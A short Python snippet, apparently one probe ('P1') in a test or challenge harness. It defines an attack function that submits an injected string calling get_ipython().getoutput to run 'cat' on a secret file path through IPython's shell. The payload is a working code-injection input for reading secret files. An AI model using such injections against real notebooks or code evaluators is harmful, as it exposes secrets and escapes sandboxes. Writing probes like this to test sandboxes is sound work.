"""P1: IPython's shell runs a command."""


def attack(door):
    door.value(f"get_ipython().getoutput('cat ' + {door.secret!r})")
